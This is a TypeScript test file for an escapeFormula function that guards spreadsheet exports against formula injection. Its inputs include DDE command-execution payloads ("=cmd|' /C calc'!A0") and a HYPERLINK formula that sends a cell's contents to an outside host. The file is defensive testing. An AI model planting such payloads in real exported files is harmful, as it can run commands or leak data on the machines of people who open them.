import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { escapeFormula } from './formula-cell.ts'

describe('a cell that could be a formula', () => {
  it.each([
    '=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?"&A1,"more")',
    '+SUM(A1:A9)',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '--1',
    '-1-1',
    '+1 kg',
    '-e5',
  ])('%j gets an apostrophe', (attack) => {
    expect(escapeFormula(attack)).toBe(`'${attack}`)
  })
  it.each(['-1.5', '+3', '-1e-7', '-1,5', '-', '+', '', '0', 'a=b', ' =1', "'", "'t Hooft", '5 - 3', '-.5'])(
    '%j stays as it is',
    (text) => {
      expect(escapeFormula(text)).toBe(text)
    },
  )
  it('law: every number stays as it is written', () => {
    fc.assert(
      fc.property(
        fc.double({ noNaN: true }),
        (n) => !Number.isFinite(n) || escapeFormula(String(n)) === String(n),
      ),
    )
  })
  it('law: escaping twice is escaping once, and nothing that begins like a formula is left', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n\'"1a,') }), (text) => {
        const once = escapeFormula(text)
        expect(escapeFormula(once)).toBe(once)
        expect(once).toMatch(/^([^=+\-@\t\r\n]|[+-]([\d.,]+)?$|$)/)
      }),
    )
  })
})
